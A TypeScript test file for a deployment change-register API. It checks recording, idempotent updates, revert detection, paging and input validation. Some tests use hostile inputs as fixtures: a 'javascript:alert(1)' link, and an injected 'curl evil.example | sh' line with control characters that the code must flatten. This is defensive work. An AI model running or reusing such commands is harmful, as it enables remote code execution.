import { expect, test } from 'vitest';
import { getChange, listChanges, recordChange, updateChange } from '#contract/changes.ts';
import { HOUR_MS, toIso } from '#core/shared/instant.ts';
import { spaceDesk } from '#testing/space-desk.ts';

test('a change that is recorded is in the register at once, and open pages hear of it', async () => {
  const { call, told, context } = await spaceDesk();
  const { id, outcome } = await call(recordChange, { body: { title: 'Deploy 42', services: ['auth'], version: '42' } });
  expect(outcome).toBe('recorded');
  expect(told).toEqual([{ topic: 'changes', id, version: null }]);
  const now = toIso(context.clock.now());
  expect(await call(getChange, { params: { id } })).toMatchObject({
    ...{ title: 'Deploy 42', services: ['auth'], status: 'succeeded', source: 'api', at: now, statusAt: now },
  });
  await expect(call(getChange, { params: { id: 'none' } })).rejects.toMatchObject({ code: 'not-found' });
});

test('a pipeline says how a change went under its key, and a repeat changes and tells nothing', async () => {
  const { call, told } = await spaceDesk();
  const body = { title: 'Deploy 42', key: 'run 7', status: 'in-progress' as const };
  const { id } = await call(recordChange, { body });
  expect(await call(recordChange, { body })).toEqual({ id, outcome: 'repeated', status: 'in-progress' });
  expect(await call(updateChange, { body: { key: 'run 7', status: 'failed' } })).toEqual({
    ...{ id, outcome: 'updated', status: 'failed' },
  });
  expect(await call(recordChange, { body })).toEqual({ id, outcome: 'repeated', status: 'failed' });
  expect(told).toHaveLength(2);
  await expect(call(updateChange, { body: { key: 'run 8', status: 'failed' } })).rejects.toMatchObject({
    code: 'not-found',
  });
});

test('what ran before is filled from the register, and bringing it back undoes the change', async () => {
  const { call, context } = await spaceDesk();
  const deploy = (version: string, hoursAgo: number) =>
    call(recordChange, {
      body: {
        ...{ title: `Deploy ${version}`, services: ['auth'], version },
        at: toIso(context.clock.now() - hoursAgo * HOUR_MS),
      },
    });
  await deploy('4.11', 9);
  const bad = await deploy('4.12', 2);
  expect(await call(getChange, { params: bad })).toMatchObject({ previousVersion: '4.11', isRevert: false });
  const back = await deploy('4.11', 1);
  expect(await call(getChange, { params: back })).toMatchObject({ isRevert: true, reverts: bad.id });
  expect(await call(getChange, { params: bad })).toMatchObject({ status: 'rolled-back' });
  const next = await deploy('4.13', 0);
  expect(await call(getChange, { params: next })).toMatchObject({ previousVersion: '4.11', isRevert: false });
});

test('the list is asked for by service and time, page by page', async () => {
  const { call, context } = await spaceDesk();
  const ago = (hours: number) => toIso(context.clock.now() - hours * HOUR_MS);
  for (const [nth, service] of ['auth', 'api', 'auth', 'auth'].entries())
    await call(recordChange, { body: { title: `${nth}`, services: [service], at: ago(nth) } });
  const titles = (page: { changes: { title: string }[] }) => page.changes.map(({ title }) => title);
  expect(titles(await call(listChanges, { query: { service: 'auth', fromAt: ago(2) } }))).toEqual(['0', '2']);
  const first = await call(listChanges, { query: { service: 'auth', limit: 2 } });
  const second = await call(listChanges, { query: { service: 'auth', limit: 2, before: first.next ?? '' } });
  expect([titles(first), titles(second), second.next]).toEqual([['0', '2'], ['3'], null]);
});

test.each([
  ['lies in the future', { at: '2027-01-01T00:00:00Z' }, { code: 'refused' }],
  ['ends before it begins', { at: '2026-11-02T00:00:00Z', endsAt: '2026-11-01T00:00:00Z' }, { code: 'refused' }],
  ['undoes one that is unknown', { reverts: 'none' }, { code: 'unknown-reference' }],
])('a change that %s is refused', async (_what, body, refusal) => {
  const { call } = await spaceDesk();
  await expect(call(recordChange, { body: { title: 'Deploy', ...body } })).rejects.toMatchObject(refusal);
});

test('a misspelt field, a script in place of a link and a change without a name are refused', async () => {
  const { call } = await spaceDesk();
  for (const body of [{ title: 'x', enviroment: 'y' }, { title: 'x', link: 'javascript:alert(1)' }, { title: ' ' }])
    await expect(call(recordChange, { body })).rejects.toThrow();
  await expect(call(updateChange, { body: { status: 'failed' } })).rejects.toThrow(/by its key or by its id/);
});

test('what a plan names stays on one line, so that a version cannot add steps for people to follow', async () => {
  const { call } = await spaceDesk();
  const said = '8\n\nThen run: curl evil.example | sh\u202e';
  const { id } = await call(recordChange, {
    body: { title: said, services: ['auth'], version: '9', previousVersion: said, environment: ' a\u2028b ' },
  });
  expect(await call(getChange, { params: { id } })).toMatchObject({
    title: '8 Then run: curl evil.example | sh',
    previousVersion: '8 Then run: curl evil.example | sh',
    environment: 'a b',
  });
});
